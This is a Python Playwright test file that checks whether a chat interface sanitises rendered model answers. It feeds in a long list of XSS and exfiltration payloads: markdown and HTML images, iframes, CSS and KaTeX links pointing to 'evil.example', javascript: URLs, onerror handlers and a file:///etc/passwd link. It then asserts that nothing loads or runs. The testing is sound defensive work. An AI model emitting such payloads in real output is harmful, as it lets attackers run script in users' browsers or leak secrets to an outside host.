"""Words of a model on the page: Markdown, code and maths as they should be, and nothing hostile does anything."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import pytest

from tests.browser.conftest import Site, Watch
from tests.browser.doing import DONE, read

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

TAGS = {
    "a", "annotation", "blockquote", "br", "button", "code", "del", "div", "em", "figcaption", "figure", "h3", "h4",
    "h5", "h6", "hr", "input", "li", "ol", "p", "path", "pre", "rect", "semantics", "span", "strong", "svg", "table",
    "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
"""What may stand in an answer, beside MathML."""
ATTRIBUTES = {
    "alt", "aria-disabled", "aria-hidden", "aria-label", "class", "checked", "d", "data-base-ui-tooltip-trigger",
    "disabled", "encoding", "fill", "id",
    "height", "href", "rel", "role", "scope", "start", "stroke", "stroke-linecap", "stroke-linejoin", "stroke-width",
    "style", "tabindex", "target", "title", "type", "viewBox", "width", "xmlns", "rx", "ry", "x", "y",
}  # fmt: skip
ELEMENTS = """
() => [...document.querySelectorAll(".answer")].map((answer) =>
  [...answer.querySelectorAll(".words *")].map((one) => [
    one.localName, Object.fromEntries([...one.attributes].map((a) => [a.name, a.value])), one.namespaceURI,
  ]))
"""
EVIL = "https://evil.example/x?d=secret"
CARRIERS = [
    f"![a]({EVIL})",
    f"![]({EVIL})",
    f"[![a]({EVIL})](http://a.example)",
    f'![a]({EVIL} "t")',
    f"![a][1]\n\n[1]: {EVIL}",
    f'<img src="{EVIL}">',
    f"<img src={EVIL} onerror=alert(1)>",
    f"<iframe src={EVIL}></iframe>",
    f"<script src={EVIL}></script>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<style>@import '{EVIL}'</style>",
    f"<video poster={EVIL}></video>",
    f"<audio src={EVIL} autoplay>",
    f"<source srcset={EVIL}>",
    f"<object data={EVIL}>",
    f"<embed src={EVIL}>",
    f"<svg><image href='{EVIL}'/></svg>",
    f"<svg><use xlink:href='{EVIL}#a'/></svg>",
    f"<svg onload=fetch('{EVIL}')>",
    f"<body background={EVIL}>",
    f'<div style="background:url({EVIL})">a</div>',
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}>",
    f"<form action={EVIL}><input autofocus>",
    f"<math><mi xlink:href='{EVIL}'>a</mi></math>",
    f"<input type=image src={EVIL}>",
    f"<track src={EVIL}>",
    f"<table background={EVIL}>",
    f"<portal src={EVIL}>",
    f"<frameset><frame src={EVIL}>",
    f"<applet code={EVIL}>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example)",
    "[a](/api/signout)",
    "[a](\x01javascript:alert(1))",
    "[a](ftp://evil.example)",
    "[a](blob:http://x)",
    '[a](http://a.example"onmouseover="alert(1))',
    "[a](http://a.example'onclick='b)",
    "[a](http://a.example<script>)",
    "[<img src=x onerror=alert(1)>](http://a.example)",
    "`<script>alert(1)</script>`",
    "```html\n<script>x</script>\n```",
    f"```{EVIL}\na\n```",
    '```" onload="alert(1)\na\n```',
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "1. <script>x</script>",
    "| <script> | a |\n|---|---|\n| <img src=x> | b |",
    "**<b onclick=x>**",
    "*<i onclick=x>*",
    "~~<s onclick=x>~~",
    "<!-- --!><script>x</script>",
    "<![CDATA[<script>]]>",
    "&lt;script&gt;",
    "\0<script>",
    "\u202e<script>",
    "<a href='javascript:x'>a</a>",
    "<template><script>x</script>",
    f"$\\href{{{EVIL}}}{{a}}$",
    f"$\\url{{{EVIL}}}$",
    f"$$\\includegraphics{{{EVIL}}}$$",
    f"$\\htmlStyle{{background:url({EVIL})}}{{a}}$",
    f"$\\htmlData{{a={EVIL}}}{{b}}$",
    f"$\\def\\a{{\\href{{{EVIL}}}{{b}}}}\\a$",
    f"$\\text{{<img src={EVIL}>}}$",
    f"[^1]\n\n[^1]: ![a]({EVIL})",
    f"- [ ] ![a]({EVIL})",
    f"```svg\n<svg><image href='{EVIL}'/></svg>\n```",
]


@pytest.fixture(scope="module")
def hostile(site: Site) -> str:
    """A conversation of all carriers."""
    return site.written(*CARRIERS)


def elements(page: Page) -> list[list[tuple[str, dict[str, str], str]]]:
    found: list[list[tuple[str, dict[str, str], str]]] = page.evaluate(ELEMENTS)
    return found


def test_no_words_of_a_model_load_or_run_anything(page: Page, site: Site, hostile: str) -> None:
    assert len(CARRIERS) >= 60
    page.on("dialog", lambda _: pytest.fail("a script ran"))
    read(page, site, hostile)
    assert page.locator(DONE).count() == len(CARRIERS)
    page.locator(".katex").first.wait_for()
    page.wait_for_load_state("networkidle")
    for text, found in zip(CARRIERS, elements(page), strict=True):
        for tag, attributes, space in found:
            maths = space.endswith("MathML")
            assert maths or tag in TAGS, (text, tag)
            assert maths or set(attributes) <= ATTRIBUTES, (text, attributes)
            assert not {"src", "srcset", "xlink:href", "background"} & set(attributes), text
            assert not any(name.startswith("on") for name in attributes), text
            assert "url(" not in attributes.get("style", ""), text
            assert "href" not in attributes or tag == "a", text
            if tag == "a":
                assert re.fullmatch(r"(https?://|mailto:)[^\s<>\"'`\\]+", attributes["href"]), text
                assert {"noopener", "noreferrer"} <= set(attributes["rel"].split())
    assert "<img src=" in page.locator(".answer", has_text="onerror=alert(1)>").first.inner_text()


def test_what_loads_elsewhere_would_be_seen(browser: Browser, site: Site, signed_in: Any) -> None:
    """The watch of these tests is no blind one: with the policy off and an image put in, it sees the request."""
    context = browser.new_context(storage_state=signed_in, bypass_csp=True)
    page = context.new_page()
    watch = Watch(page, site.url)
    page.goto(site.url)
    page.wait_for_selector("#ask")
    watch.check()
    page.evaluate("(url) => document.body.append(Object.assign(new Image(), { src: url }))", EVIL)
    page.wait_for_timeout(300)
    assert watch.foreign == [EVIL]
    context.close()


def test_a_hostile_answer_is_harmless_while_it_is_being_written_too(page: Page, site: Site) -> None:
    """Half a tag, half a link: what the page shows of an answer that grows letter by letter."""
    text = f"![a]({EVIL}) <img src={EVIL}> [a](javascript:alert(1)) $\\href{{{EVIL}}}{{a}}$"
    read(page, site, site.written(*(text[:end] for end in range(1, len(text) + 1))))
    page.wait_for_load_state("networkidle")
    assert page.locator(DONE).count() == len(text)
    assert page.locator(".answer :is(img, iframe, script, [src], a[href^='javascript'])").count() == 0


def test_markdown_code_and_maths_are_shown(page: Page, site: Site) -> None:
    text = "# Title\n\nA **bold** and *slanted* `code`.\nNext ~~gone~~ 2 * 3 * 4 and snake_case_name\n\n"
    text += "- one\n- two\n\n3. three\n\n> said\n\n```python\ndef f(x):\n    return x  # done\n```\n\n"
    text += "|a|b|\n|:--|--:|\n|1|2|\n\n- [x] done\n\n[a](https://a.example) &amp; $e^{i\\pi} = -1$, costs $5 or $6\n\n"
    text += "$$\n\\int_0^1 x\\,dx = \\frac12\n$$\n\n\\(a_b\\) $\\undefined{$\n"
    read(page, site, site.written(text))
    words = page.locator(".words")
    page.locator(".katex-display").wait_for()
    for selector in ("h3", "strong", "em", "ul", "ol[start='3']", "blockquote", "table", "a[href='https://a.example']"):
        assert words.locator(selector).count() >= 1, selector
    assert words.locator("em").count() == 1
    assert words.locator("del").inner_text() == "gone"
    words.locator("pre .hljs-keyword", has_text="def").wait_for()
    assert words.locator("pre").inner_text() == "def f(x):\n    return x  # done"
    assert words.locator(".katex").count() == 3
    assert "costs $5 or $6" in words.inner_text()
    assert words.locator("input[type=checkbox]").is_checked()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    words.locator("figure.code").get_by_role("button", name="Copy").click()
    words.get_by_role("button", name="Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == "def f(x):\n    return x  # done"


def test_no_words_take_the_page_long(page: Page, site: Site) -> None:
    bits = [
        "`", "*", "**", "[", "](", "![", "~~", "|", "> ", "- ", "#", "\n", "```\n",
        "[a](", "**a", "`a", " ", "|-|\n", "$", "$a", "\\(", "<a ", "&#",
    ]  # fmt: skip
    talk = site.written(*(bit * (10_000 // len(bit)) for bit in bits))
    read(page, site, talk)
    assert page.locator(DONE).count() == len(bits)
    taken = page.evaluate("() => performance.now()")
    assert taken < 15_000
